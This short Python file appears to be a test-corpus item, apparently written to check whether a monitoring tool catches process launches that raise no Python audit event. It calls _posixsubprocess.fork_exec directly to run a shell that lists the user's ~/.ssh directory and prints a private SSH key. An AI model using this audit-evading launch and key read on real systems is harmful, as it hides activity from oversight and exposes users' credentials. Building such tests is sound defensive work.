"""A fork_exec shell lists ~/.ssh and prints a private key of the user running the collector."""

import _posixsubprocess
import os
import sys

T = {}  # the corpus runner puts the targets here


def shell(script):
    """Run /bin/sh through _posixsubprocess.fork_exec, which raises no audit event; exit with its status."""
    errpipe_read, errpipe_write = os.pipe()
    args = ([b"/bin/sh", b"-c", script.encode()], [b"/bin/sh"], True, (), None, None)
    args += (-1, -1, -1, -1, -1, -1, errpipe_read, errpipe_write, True, False, -1, None, None, None, -1, None)
    try:
        pid = _posixsubprocess.fork_exec(*args, False)  # 3.12+ and recent 3.11 builds: allow_vfork
    except TypeError:
        pid = _posixsubprocess.fork_exec(*args)
    os.close(errpipe_write)
    _, status = os.waitpid(pid, 0)
    sys.exit(os.waitstatus_to_exitcode(status))


shell(f"ls -la {T['home']}/.ssh {T['ssh_dir']} && cat {T['ssh_key']}")
